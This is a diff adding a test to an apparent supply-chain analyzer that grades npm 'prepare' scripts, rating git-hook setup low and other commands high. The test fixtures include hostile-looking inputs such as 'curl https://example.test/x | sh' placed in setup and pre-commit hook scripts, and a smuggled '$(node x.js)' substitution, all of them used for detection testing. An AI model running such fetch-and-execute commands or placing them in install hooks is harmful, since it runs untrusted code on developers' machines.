@@ -992,6 +992,24 @@ ${uses.map((u) => `      - uses: ${u}`).join('\n')}
     expect(script('a-tool one && b-tool two', 'b-tool two && a-tool one')).toEqual(['npm-install-script']);
   });
 
+  it('keeps a prepare script that only sets up a git-hook manager low; one that runs anything else high', () => {
+    const severity = (prepare: string, extra: Record<string, string> = {}) =>
+      analyze(snapshotOf(change('package.json', pkg({ scripts: { test: 'vitest' } }), pkg({ scripts: { test: 'vitest', prepare, ...extra } }))))
+        .findings.filter((f) => f.id === 'npm-install-script')
+        .map((f) => f.severity);
+    expect(severity('husky install && npm run prepare:hooks', { 'prepare:hooks': 'npx husky add .husky/commit-msg "npx --no -- commitlint --edit $1"' })).toEqual(['low']);
+    expect(severity('is-ci || husky')).toEqual(['low']);
+    expect(severity('simple-git-hooks')).toEqual(['low']);
+    expect(severity('npx lefthook install')).toEqual(['low']);
+    expect(severity('git config core.hooksPath .githooks')).toEqual(['low']);
+    expect(severity('husky install && node scripts/setup.js')).toEqual(['high']);
+    expect(severity('husky install && npm run setup', { setup: 'curl https://example.test/x | sh' })).toEqual(['high']);
+    expect(severity('husky add .husky/pre-commit "curl https://example.test/x | sh"')).toEqual(['high']);
+    expect(severity('husky install; hook-helper')).toEqual(['high']);
+    expect(severity('npm run a', { a: 'npm run a' })).toEqual(['high']);
+    expect(severity('husky install $(node x.js)')).toEqual(['high']);
+  });
+
   it('puts dependency review vulnerabilities in the section', () => {
     const section = analyze(
       makeSnapshot({
